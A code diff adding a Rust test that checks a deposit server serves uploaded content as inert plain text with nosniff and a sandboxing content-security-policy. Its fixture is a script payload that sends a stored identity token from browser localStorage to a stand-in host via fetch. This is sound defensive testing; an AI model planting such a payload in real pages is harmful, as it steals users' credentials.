@@ -473,3 +473,28 @@ fn an_oversized_request_target_header_or_body_gets_the_api_s_refusal() {
     node.nothing_stored(None);
     assert_eq!(node.http.get("/health").status, 200);
 }
+
+#[test]
+fn a_text_is_served_as_plain_text_whatever_its_deposit_declares() {
+    let node = Node::new();
+    // A depositor declares a type a browser would read as a page, and sends a script.
+    let page = b"<script>fetch('//elsewhere/?' + localStorage['substrate.identity'])</script>";
+    let Event::Deposit(mut deposit) = deposit_event(page, "narrative", ConsentTier::Public) else {
+        unreachable!("deposit_event makes a deposit")
+    };
+    deposit.media_type = "text/plain, text/html".into();
+    let signed = SignedEvent::sign(Event::Deposit(deposit), &node.alice);
+    let reply = node.post_deposit(&deposit_body(&signed.envelope, page));
+    assert_eq!(reply.status, 201, "{}", reply.body);
+    let url = format!("{}/v1/deposits/{}/content", node.http.base, Cid::of(page));
+    let response = ureq::get(&url).call().expect("the content");
+    assert_eq!(response.header("content-type"), Some("text/plain; charset=utf-8"));
+    assert_eq!(response.header("x-content-type-options"), Some("nosniff"));
+    let policy = response.header("content-security-policy").unwrap_or_default().to_owned();
+    assert!(policy.contains("sandbox") && policy.contains("default-src 'none'"), "{policy}");
+    assert_eq!(response.into_string().expect("body").as_bytes(), page);
+    // Every API answer is inert data, refusals too.
+    let refused = ureq::get(&format!("{}/v1/deposits/nothing", node.http.base)).call();
+    let Err(ureq::Error::Status(404, response)) = refused else { panic!("not a 404: {refused:?}") };
+    assert_eq!(response.header("x-content-type-options"), Some("nosniff"));
+}
